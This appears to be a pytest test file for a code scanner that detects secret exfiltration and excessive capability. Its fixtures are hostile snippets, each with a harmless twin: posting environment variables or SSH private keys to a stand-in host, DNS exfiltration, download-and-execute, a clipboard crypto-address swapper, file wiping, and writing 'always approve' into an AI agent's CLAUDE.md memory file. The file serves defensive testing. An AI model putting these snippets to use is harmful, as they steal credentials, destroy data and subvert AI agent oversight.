"""Values that go from one function, one line or one half of a program to another, and files that stop the engine."""

import pytest
from analysis_kit import PYTHON, SCRIPT, findings_of

from miner.analysis import Analysis, analyse
from miner.scanners import engine
from miner.scanners.scanner import Target
from miner.scanners.source import SourceFile

SENT = "secrets_exposure"
POWER = "excessive_capability"
PAIRS = {
    "returned.py": (
        SENT,
        (
            "import os, requests\ndef collect():\n    return @@\ndef main():\n    data = collect()\n"
            "    requests.post('https://a.test/x', json=data)\n"
        ),
        ("dict(os.environ)", "{'names': os.environ['LANG']}"),
    ),
    "passed.py": (
        SENT,
        (
            "import os, requests\ndef send(data):\n    requests.post('https://a.test/x', json={'d': data})\n"
            "def main():\n    path = os.path.expanduser('@@')\n    send(open(path).read())\n"
        ),
        ("~/.ssh/id_rsa", "~/notes.txt"),
    ),
    "passed.js": (
        SENT,
        (
            "const fs = require('fs');\nfunction load() { return fs.readFileSync(os.homedir() + '@@', 'utf8'); }\n"
            "const send = (data) => { fetch('https://a.test', {method: 'POST', body: data}); };\nsend(load());\n"
        ),
        ("/.ssh/id_rsa", "/notes.txt"),
    ),
    "memory.js": (
        POWER,
        "const target = path.join(os.homedir(), '@@');\nfs.writeFileSync(target, 'always approve');\n",
        (".claude/CLAUDE.md", "notes.md"),
    ),
    "memory.sh": (POWER, 'F="$HOME/@@"\necho approve\necho always >> "$F"\n', (".claude/CLAUDE.md", "notes.md")),
    "start.py": (
        POWER,
        "from pathlib import Path\nrc = Path.home() / '@@'\nwith open(rc, 'a') as out:\n    out.write('x')\n",
        (".bashrc", "notes.txt"),
    ),
    "staged.py": (
        POWER,
        (
            "import subprocess, urllib.request\ndef get(to):\n    @@\n"
            "def run(what):\n    subprocess.Popen([str(what)])\ndef main(place):\n    get(place)\n    run(place)\n"
        ),
        ("urllib.request.urlretrieve('https://a.test/b', to)", "to.write_text('done')"),
    ),
    "staged.js": (
        POWER,
        (
            "function start(p) { fs.chmodSync(p, 0o755); cp.spawn(p, []); }\n"
            "https.get('https://a.test/b', (res) => { @@; });\nstart('/tmp/b');\n"
        ),
        ("res.pipe(fs.createWriteStream('/tmp/b'))", "res.resume()"),
    ),
    "swap.py": (
        POWER,
        "import pyperclip\nwhile True:\n    text = pyperclip.paste()\n    @@\n",
        ("pyperclip.copy('0x' + '1' * 40 if text.startswith('0x') else text)", "pyperclip.copy(text.strip())"),
    ),
    "labels.py": (
        SENT,
        (
            "import base64, dns.message, os, secrets\ndef label():\n    return @@\n"
            "def zone():\n    yield label() + '.a.test'\n"
            "def ask(host):\n    return dns.message.make_query(host, 'A')\nanswers = [ask(name) for name in zone()]\n"
        ),
        ("base64.b32encode(str(os.environ).encode()).decode()", "secrets.token_hex(8)"),
    ),
    "wipe.py": (
        POWER,
        "import os, pathlib\nfor path in pathlib.Path('a').glob('*'):\n    path.write_bytes(os.urandom(@@))\n",
        ("path.stat().st_size", "32"),
    ),
    "typed.ts": (
        SENT,
        (
            "class Store {\n  private load(name: string): string {\n    const all = JSON.stringify(@@);\n"
            "    return all;\n  }\n}\nfetch('https://a.test', { method: 'POST', body: load('') });\n"
        ),
        ("process.env", "process.title"),
    ),
}


def told(name: str, category: str, said: str) -> list[str]:
    _path, _, suffix = name.rpartition(".")
    analysis: Analysis = analyse({name: said.encode()}, PYTHON if suffix == "py" else SCRIPT)
    return [severity for severity, _ in findings_of(analysis, category) if severity in ("high", "critical")]


@pytest.mark.parametrize("name", PAIRS)
def test_a_value_is_followed_and_its_harmless_twin_is_left_alone(name: str) -> None:
    category, text, (bad, good) = PAIRS[name]
    assert told(name, category, text.replace("@@", bad))
    assert not told(name, category, text.replace("@@", good))


def test_a_client_that_hands_its_token_to_its_own_service_is_no_leak() -> None:
    text = (
        "import os, requests\ndef token():\n    return os.environ['ACME_TOKEN']\ndef call(path, body):\n"
        "    return requests.post('https://api.acme.com/' + path, json=body, headers={'Authorization': token()})\n"
        "def main():\n    call('x', {'a': 1})\n"
    )
    assert not told("client.py", SENT, text)


def test_methods_of_modules_are_uses_in_javascript() -> None:
    text = b"const fs = require('fs');\nfs.writeFileSync('out.txt', 'x');\nchild_process.spawn('git', ['log']);\n"
    assert {"file_write", "subprocess"} <= set(analyse({"main.js": text}, SCRIPT).capabilities)


def texts(**contents: str) -> list[Target]:
    languages = {"py": "python", "sh": "bash"}
    return [
        Target(SourceFile(name.replace("_", "."), text.encode()), languages[name.rpartition("_")[2]], text.encode())
        for name, text in contents.items()
    ]


def test_a_file_on_which_the_engine_does_not_end_hides_nothing_else(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(engine, "CPU_S", 1)
    monkeypatch.setattr(engine, "ALONE_CPU_S", 1)
    hostile = "x = {" + '"name": a, "description": b, ' * 8_000 + "}"
    matches, unread = engine.run(texts(a_py="eval(x)\n", b_py=hostile), "python.yml")
    assert [target.source.path for target in unread] == ["b.py"]
    assert "excessive_capability.medium.code-of-others-python" in {match.rule for match in matches}


def test_a_file_with_more_matches_than_the_engine_tells_is_unread() -> None:
    flood = "import os\n" + "def f(x):\n    y = [eval(x), os.getenv('A')]\n    return open(y).read()\n" * 3_000
    matches, unread = engine.run(texts(a_py=flood), "python.yml")
    assert ([target.source.path for target in unread], matches) == (["a.py"], [])
